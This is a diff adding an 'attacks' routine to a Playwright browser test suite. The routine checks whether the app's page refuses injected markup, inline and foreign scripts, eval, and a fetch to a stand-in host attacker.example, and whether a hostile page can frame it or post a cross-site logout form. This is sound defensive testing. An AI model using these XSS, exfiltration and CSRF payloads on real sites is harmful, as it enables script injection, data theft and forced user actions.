@@ -429,6 +429,55 @@ const walks = {
     await heading("There is no such page");
   },
 
+  /** What somebody tries who got markup or a script into the page, or whose own page the person visits meanwhile. */
+  async attacks() {
+    await page.locator(".row-link").first().waitFor();
+    Object.assign(answer, await page.evaluate(async () => {
+      const [ran, refused] = [[], []];
+      window.attacked = (name) => ran.push(name);
+      const tried = async (name, act) => {
+        try {
+          await act(document.body.appendChild(document.createElement(name === "markup" ? "div" : "script")));
+        } catch {
+          refused.push(name);
+        }
+      };
+      await tried("markup", (box) => (box.innerHTML = `<img src="x:" onerror="attacked('markup')">`));
+      await tried("script", (script) => (script.text = "attacked('script')"));
+      await tried("foreign", (script) => (script.src = "http://attacker.example/script.js"));
+      // Later, because the browser allows it to what Playwright itself runs.
+      await tried("eval", () => new Promise((resolve, reject) => setTimeout(() => {
+        try {
+          resolve((0, eval)("attacked('eval')"));
+        } catch (error) {
+          reject(error);
+        }
+      })));
+      await tried("sent", () => fetch("http://attacker.example/stolen").then(() => ran.push("sent")));
+      await new Promise((resolve) => setTimeout(resolve, 500));
+      return { ran, refused };
+    }));
+    const other = await context.newPage();
+    await other.route("http://attacker.example/**", (route) => route.fulfill({ contentType: "text/html", body: "<iframe name=f></iframe>" }));
+    await other.goto("http://attacker.example/");
+    const framed = (act) => other.evaluate(([what, address]) => new Promise((resolve) => {
+      const frame = document.querySelector("iframe");
+      frame.onload = resolve;
+      if (what === "page") return (frame.src = address);
+      const form = document.body.appendChild(document.createElement("form"));
+      Object.assign(form, { action: `${address}api/logout`, method: "POST", enctype: "text/plain", target: "f" });
+      form.submit();
+    }), [act, job.address]);
+    await framed("page");
+    answer.framed = await other.frames()[1].locator(".brand").count();
+    await framed("form");
+    await other.close();
+    await page.reload();
+    await page.locator(".row-link").first().waitFor();
+    // The browser reports what it refused.
+    problems.length = 0;
+  },
+
   /** Opens a one-time link twice. */
   async link() {
     await heading("Checks");
